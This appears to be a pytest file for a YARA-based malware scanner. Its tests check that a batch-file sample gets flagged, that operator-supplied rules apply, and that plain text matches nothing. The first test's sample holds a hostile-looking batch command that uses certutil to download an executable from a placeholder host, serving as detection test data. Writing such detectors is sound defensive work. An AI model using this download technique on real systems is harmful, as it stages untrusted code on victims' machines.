from pathlib import Path

from unhook.files import signatures
from unhook.files.model import Sign
from unhook.files.scanner import Sample
from unhook.files.scanners.yara import SCANNER


def test_types_are_flavors_and_the_rest_are_matches() -> None:
    found = SCANNER.scan(Sample(b"@echo off\ncertutil -urlcache -f https://files.test/a a.exe\n", "bat"))
    assert found.flavors == ("batch_file",)
    assert found.record["yara"] == {"matches": [{"name": "system_tool_fetches"}]}
    (sign,) = found.signs
    assert sign.name == "yara-match"
    assert sign.detail.startswith("system_tool_fetches: A system tool told to fetch")


def test_an_operators_rules_come_with_the_sample(tmp_path: Path) -> None:
    (tmp_path / "ours.yar").write_text("rule ours { condition: filesize > 2 }")
    found = SCANNER.scan(Sample(b"words", "txt", yara=signatures.compiled([tmp_path])))
    assert found.signs == (Sign("yara-match", "ours"),)


def test_an_ordinary_text_matches_nothing() -> None:
    found = SCANNER.scan(Sample(b"Dear all, see you on Monday.", "txt"))
    assert (found.flavors, found.signs) == ((), ())
